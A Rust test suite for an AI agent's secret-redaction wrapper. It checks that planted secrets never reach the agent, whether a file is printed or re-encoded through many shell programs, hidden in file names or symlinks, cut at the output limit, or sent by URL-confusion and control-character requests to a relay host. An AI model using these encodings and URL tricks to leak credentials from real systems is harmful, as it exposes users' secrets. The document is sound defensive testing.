//! Attacks through tools: programs, files and services show what they hold in every form, and no agent sees a value.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use serde_json::{Value, json};
use wardkeep_tests::story::agent::Dialect;
use wardkeep_tests::story::capture::Channel;
use wardkeep_tests::story::disguise;
use wardkeep_tests::story::seeded::Seeded;
use wardkeep_tests::story::valuables;

use super::siege::{HARMLESS, Siege, heard};
use crate::force;

/// What a program makes of `treasure/NAME`, a file that holds the value and a line end. `{f}` becomes its path.
pub(super) struct Program {
    pub(super) command: &'static str,
    /// Not on every machine.
    pub(super) needs: &'static str,
    /// Whether a harmless text comes out as it was.
    pub(super) shows: bool,
}

pub(super) const PROGRAMS: &[Program] = &[
    Program { command: "cat {f}", needs: "cat", shows: true },
    Program { command: "cat {f} >&2", needs: "cat", shows: true },
    Program { command: "nl -ba {f}", needs: "nl", shows: true },
    Program { command: "head -c 4096 {f}", needs: "head", shows: true },
    Program { command: "tail -n +1 {f}", needs: "tail", shows: true },
    Program { command: "sort {f}", needs: "sort", shows: true },
    Program { command: "sed -n 'p;l' {f}", needs: "sed", shows: true },
    Program { command: "grep -n '' {f}", needs: "grep", shows: true },
    Program { command: "fold -w 1000 {f}", needs: "fold", shows: true },
    Program { command: "paste -s -d' ' {f}", needs: "paste", shows: true },
    Program { command: "base64 {f}", needs: "base64", shows: true },
    Program { command: "base64 -w 0 {f}", needs: "base64", shows: true },
    Program { command: "base64 -w 20 {f}", needs: "base64", shows: true },
    Program { command: "od -An -tx1 {f}", needs: "od", shows: true },
    Program { command: "od -A x -t x1z {f}", needs: "od", shows: true },
    Program { command: "xxd {f}", needs: "xxd", shows: true },
    Program { command: "xxd -p {f}", needs: "xxd", shows: true },
    Program { command: "xxd -i {f}", needs: "xxd", shows: true },
    Program { command: "hexdump -C {f}", needs: "hexdump", shows: true },
    Program { command: "jq -R . {f}", needs: "jq", shows: true },
    Program { command: "jq -Rs . {f}", needs: "jq", shows: true },
    Program { command: "jq -Rs '@uri' {f}", needs: "jq", shows: true },
    Program { command: "jq -Rs '@base64' {f}", needs: "jq", shows: true },
    Program { command: "jq -Rs '@html' {f}", needs: "jq", shows: true },
    Program { command: "jq -Rs '@sh' {f}", needs: "jq", shows: true },
    Program { command: "diff -u empty {f}", needs: "diff", shows: true },
    Program { command: "cmp -l empty {f}; cat {f}", needs: "cmp", shows: true },
    Program { command: "strings -n 4 {f}", needs: "strings", shows: true },
    Program { command: "wc {f} && cat {f} {f}", needs: "wc", shows: true },
    Program { command: "iconv -f UTF-8 -t UTF-16LE {f}", needs: "iconv", shows: true },
    Program { command: "iconv -f UTF-8 -t UTF-16BE {f}", needs: "iconv", shows: true },
    Program { command: "cat {f}.first; sleep 0.03; cat {f}.second", needs: "cat", shows: true },
    Program { command: "cat {f}.first >&2; cat {f}.second", needs: "cat", shows: true },
    Program { command: "bash {f}", needs: "bash", shows: false },
    Program { command: "bash -x {f}", needs: "bash", shows: false },
    Program { command: "git diff --no-index empty {f}", needs: "git", shows: true },
    Program { command: "ls names/{n}", needs: "ls", shows: true },
    Program { command: "find names/{n}", needs: "find", shows: true },
    Program { command: "readlink links/{n}", needs: "readlink", shows: true },
    Program { command: "cat links/{n}", needs: "cat", shows: false },
    Program { command: "stat links/{n}", needs: "stat", shows: true },
    Program { command: "cd names/{n} && pwd && ls -l && cat *", needs: "cat", shows: true },
    Program { command: "sleep 0; false < {f}; cat {f}; exit 3", needs: "cat", shows: true },
];

/// Every value in files of the workspace, whole, in two halves, as a name and as where a link leads.
pub(super) fn plant(workspace: &Path, secrets: &[(&str, String)]) {
    for folder in ["treasure", "names", "links"] {
        fs::create_dir_all(workspace.join(folder)).expect("made");
    }
    fs::write(workspace.join("empty"), "").expect("written");
    for (name, value) in secrets {
        let file = workspace.join("treasure").join(name);
        fs::write(&file, format!("{value}\n")).expect("written");
        let half = value.char_indices().nth(value.chars().count() / 2).map_or(0, |(at, _)| at);
        fs::write(file.with_extension("first"), &value[..half]).expect("written");
        fs::write(file.with_extension("second"), &value[half..]).expect("written");
        let named = workspace.join("names").join(name);
        fs::create_dir_all(&named).expect("made");
        fs::write(named.join(if is_name(value) { value } else { "none" }), "x").expect("written");
        symlink(value, workspace.join("links").join(name)).expect("linked");
    }
}

/// Whether a file can be called so. With a slash it would be two names, each a part of the value that nobody looks for.
fn is_name(value: &str) -> bool {
    /// `NAME_MAX`. The key file, of some 310 bytes, has a slash in most runs, not in all.
    const LONGEST: usize = 255;
    !value.contains('/') && value.len() <= LONGEST
}

#[test]
fn what_cannot_be_a_name_is_planted_all_the_same() {
    let key_files = (0..).map(|seed| valuables::draw(&Seeded::new(seed)).into_iter().find(|kept| kept.name == "pem"));
    let without_slash = key_files.flatten().find(|pem| !pem.value.contains('/')).expect("one in sixty is").value;
    let folder = tempfile::tempdir().expect("a folder");
    plant(folder.path(), &[("pem", without_slash), ("slash", "one/two".to_owned()), ("name", "n".repeat(255))]);
    for place in ["treasure/pem.second", "links/pem", "names/pem/none", "names/slash/none"] {
        assert!(folder.path().join(place).symlink_metadata().is_ok(), "{place}");
    }
    assert!(folder.path().join("names/name").join("n".repeat(255)).exists());
}

/// Text that is nobody's encoding.
fn filler(length: usize) -> String {
    ". ".repeat(length / 2 + 1)[..length].to_owned()
}

pub(super) fn is_there(program: &str) -> bool {
    ["/usr/local/bin", "/usr/bin", "/bin"].iter().any(|folder| Path::new(folder).join(program).exists())
}

#[tokio::test(flavor = "multi_thread")]
async fn no_program_shows_a_value() {
    let mut siege = Siege::lay(Dialect::Anthropic).await;
    let mut secrets = siege.secrets();
    secrets.insert(0, ("harmless", HARMLESS.to_owned()));
    plant(&siege.stage.tenant.workspace(), &secrets);
    let all = secrets.iter().map(|(name, _)| *name).collect::<Vec<_>>();
    for (number, program) in PROGRAMS.iter().enumerate().filter(|(_, program)| is_there(program.needs)) {
        // The harmless one alone, then all values in a row.
        for names in [&all[..1], &all[1..]] {
            let one = |name: &&str| program.command.replace("{f}", &format!("treasure/{name}")).replace("{n}", name);
            let command = names.iter().map(one).collect::<Vec<_>>().join("; ");
            let id = format!("p{number}-{}", names.len());
            force(&siege.stage, &siege.hooks, &id, "shell", json!({"command": command})).await;
            let news = siege.listen(program.command);
            let shown = heard(&news, HARMLESS).contains(&Channel::Agent);
            assert!(
                shown || !program.shows || names.len() > 1,
                "{}: the harmless text was not shown either",
                program.command
            );
        }
    }
    siege.lift().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_file_shows_a_value() {
    let mut siege = Siege::lay(Dialect::Anthropic).await;
    let mut secrets = siege.secrets();
    secrets.insert(0, ("harmless", HARMLESS.to_owned()));
    let workspace = siege.stage.tenant.workspace();
    plant(&workspace, &secrets);
    for (number, form) in disguise::ALL.iter().enumerate() {
        let path = format!("treasure/form{number}");
        let all = secrets.iter().map(|(_, value)| (form.apply)(value)).collect::<Vec<_>>().join("\n--\n");
        fs::write(workspace.join(&path), &all).expect("written");
        siege.hooks.run(&path, "read_file", json!({"path": path})).await.expect("it is read");
        let news = siege.listen(&format!("read_file, {}", form.name));
        assert!(heard(&news, HARMLESS).contains(&Channel::Agent), "{}: nothing was read", form.name);
    }
    for (name, value) in &secrets {
        let odd = [
            ("bytes", [b"\xFF\x00\x80".as_slice(), value.as_bytes(), b"\xC0\x01"].concat()),
            ("utf16le", value.encode_utf16().flat_map(u16::to_le_bytes).collect()),
            ("utf16be", [vec![0xFE, 0xFF], value.encode_utf16().flat_map(u16::to_be_bytes).collect()].concat()),
            ("one long line", format!("{}{value}{}", filler(100_000), filler(100_000)).into_bytes()),
        ];
        for (number, (what, bytes)) in odd.into_iter().enumerate() {
            let path = format!("treasure/{name}-{number}");
            fs::write(workspace.join(&path), bytes).expect("written");
            siege.hooks.run(&path, "read_file", json!({"path": path})).await.expect("it is read");
            siege.listen(&format!("read_file of {what}, {name}"));
        }
        for (tool, path) in [("list_files", format!("names/{name}")), ("read_file", format!("links/{name}"))] {
            force(&siege.stage, &siege.hooks, &format!("{tool}-{name}"), tool, json!({"path": path})).await;
            siege.listen(&format!("{tool} {path}"));
        }
    }
    siege.lift().await;
}

/// The end of what is kept falls on every part of a value, in several forms.
#[tokio::test(flavor = "multi_thread")]
async fn no_cut_shows_a_half() {
    /// What is kept of an output, and how much more is read to redact the end of it; `safety-wrapper/src/gate/work.rs`.
    const KEPT: usize = 256 * 1024;
    let mut siege = Siege::lay(Dialect::Anthropic).await;
    let workspace = siege.stage.tenant.workspace();
    let secrets = siege.secrets();
    let longest = secrets.iter().map(|(_, value)| value.len()).max().unwrap_or(0);
    let read = KEPT + (longest * 12).max(4096);
    let forms: Vec<_> = disguise::ALL.iter().filter(|form| ["plain", "hex", "base64"].contains(&form.name)).collect();
    let some = ["shown_token", "pem", "short"];
    for (number, (name, value)) in secrets.iter().enumerate().filter(|(_, (name, _))| some.contains(name)) {
        for form in &forms {
            let hidden = (form.apply)(value);
            for (at, place) in [(KEPT, "what is kept"), (read, "what is read")] {
                for quarter in 1..4 {
                    let before = at - hidden.len() * quarter / 4;
                    // Other values before make the redacted text shorter than what was read.
                    let start = secrets[(number + 1) % secrets.len()].1.as_str();
                    let text = format!("{start}\n{}{hidden}{}", filler(before - start.len() - 1), filler(9000));
                    fs::write(workspace.join("long"), text).expect("written");
                    let id = format!("{name}-{}-{at}-{quarter}", form.name);
                    siege.hooks.run(&id, "read_file", json!({"path": "long"})).await.expect("it is read");
                    siege.listen(&format!("the end of {place}, {} {name}", form.name));
                }
            }
        }
    }
    fs::write(workspace.join("long"), format!("{HARMLESS}{}", filler(KEPT))).expect("written");
    siege.hooks.run("harmless", "read_file", json!({"path": "long"})).await.expect("it is read");
    assert!(heard(&siege.listen("harmless"), HARMLESS).contains(&Channel::Agent), "nothing was read");
    siege.lift().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_service_shows_the_key_it_was_given() {
    let mut siege = Siege::lay(Dialect::Anthropic).await;
    let service = siege.stage.tenant.services.newsletter_url();
    let elsewhere = format!("http://{}", tap(&siege, "elsewhere"));
    let bound = json!({"authorization": "Bearer SECRET_REF(newsletter_api_key)"});
    let mut calls: Vec<(String, Value)> = vec![
        ("account".to_owned(), json!({"method": "GET", "url": format!("{service}/v1/account"), "headers": bound})),
        (
            "echo".to_owned(),
            json!({"method": "GET", "url": format!("{service}/v1/echo?{}", escaped()), "headers": bound}),
        ),
        (
            "moved".to_owned(),
            json!({"method": "GET", "url": format!("{service}/v1/moved?to={elsewhere}/v1/echo"), "headers": bound}),
        ),
    ];
    for before in [0, 262_100, 262_144, 266_200, 300_000] {
        let url = format!("{service}/v1/export?before={before}");
        calls.push((format!("export after {before}"), json!({"method": "GET", "url": url, "headers": bound})));
    }
    for method in ["POST", "PUT", "OPTIONS", "HEAD"] {
        let args = json!({"method": method, "url": format!("{service}/v1/echo"), "headers": bound, "body": HARMLESS});
        calls.push((format!("echo of {method}"), args));
    }
    for (name, args) in calls {
        let id = name.replace(' ', "-");
        let result = force(&siege.stage, &siege.hooks, &id, "http_request", args).await;
        assert!(result.is_some_and(|result| !result["http_status"].is_null()), "{name} was not answered");
        siege.listen(&name);
    }
    // Where it is not bound it does not go, whatever the place is called.
    let port = tap(&siege, "newsletter service").rsplit(':').next().expect("a port").to_owned();
    let other = elsewhere.trim_start_matches("http://").to_owned();
    for (number, url) in [
        format!("{elsewhere}/v1/echo"),
        format!("http://127.0.0.1:{port}@{other}/v1/echo"),
        format!("http://{other}/v1/echo#@127.0.0.1:{port}"),
        format!("http://{other}\\@127.0.0.1:{port}/v1/echo"),
        format!("http://localhost:{}/v1/echo", other.rsplit(':').next().expect("a port")),
        format!("http://[::ffff:127.0.0.1]:{port}/v1/echo"),
        format!("http://localhost:{port}/v1/echo"),
        format!("http://0.0.0.0:{port}/v1/echo"),
    ]
    .into_iter()
    .enumerate()
    {
        let args = json!({"method": "GET", "url": url, "headers": bound});
        force(&siege.stage, &siege.hooks, &format!("other{number}"), "http_request", args).await;
        siege.listen(&url);
    }
    let reached = siege.stage.newsletter.requests().iter().filter(|request| request.status == 200).count();
    assert!(reached >= 10, "the service was reached {reached} times");
    siege.lift().await;
}

fn escaped() -> String {
    HARMLESS.replace(' ', "+")
}

pub(super) fn tap(siege: &Siege, name: &str) -> String {
    let tap = siege.stage.taps.iter().find(|(other, _)| *other == name).expect("a relay");
    tap.1.address().to_string()
}

/// What a URL or a method is on the wire is not always what was written.
#[tokio::test(flavor = "multi_thread")]
async fn no_request_becomes_a_value_on_its_way() {
    let mut siege = Siege::lay(Dialect::Anthropic).await;
    let elsewhere = format!("http://{}", tap(&siege, "elsewhere"));
    let letters = siege.stage.secrets.more.iter().find(|v| v.name == "letters").expect("kept").value.clone();
    let token = siege.stage.secrets.more.iter().find(|v| v.name == "shown_token").expect("kept").value.clone();
    for (number, (what, harmless)) in
        [(letters.as_str(), false), (token.as_str(), false), ("velvetlanterninthequietgarden", true)]
            .into_iter()
            .enumerate()
    {
        let (one, two) = what.split_at(what.len() / 2);
        for (name, method, url) in [
            ("method", what, format!("{elsewhere}/")),
            ("tab in the path", "GET", format!("{elsewhere}/{one}\t{two}")),
            ("line end in the path", "GET", format!("{elsewhere}/{one}\n{two}")),
            ("carriage return in the query", "GET", format!("{elsewhere}/?q={one}\r{two}")),
            ("dots in the path", "GET", format!("{elsewhere}/a/../{what}/./b/..")),
            (
                "escaped letters",
                "GET",
                format!("{elsewhere}/{}", what.bytes().map(|b| format!("%{b:02x}")).collect::<String>()),
            ),
            ("wide letters in the host", "GET", format!("http://{}.localhost/", wide(what))),
            ("small and capital letters in the host", "GET", format!("http://{what}.localhost/")),
        ] {
            let id = format!("{}-{number}", name.replace(' ', "-"));
            let args = json!({"method": method, "url": url});
            force(&siege.stage, &siege.hooks, &id, "http_request", args).await;
            let news = siege.listen(name);
            // A method of that length and a host that is nowhere are refused anyhow.
            let open =
                !["method", "host"].iter().any(|closed| name.contains(closed)) && !url.contains(['\t', '\n', '\r']);
            let through = heard(&news, what).contains(&Channel::Elsewhere);
            assert!(!harmless || !open || through, "{name}: nothing got through");
        }
    }
    siege.lift().await;
}

/// The letters as East Asian texts write them; names of hosts turn them into plain ones.
fn wide(text: &str) -> String {
    text.chars().map(|c| char::from_u32(u32::from(c) - 0x20 + 0xFF00).unwrap_or(c)).collect()
}
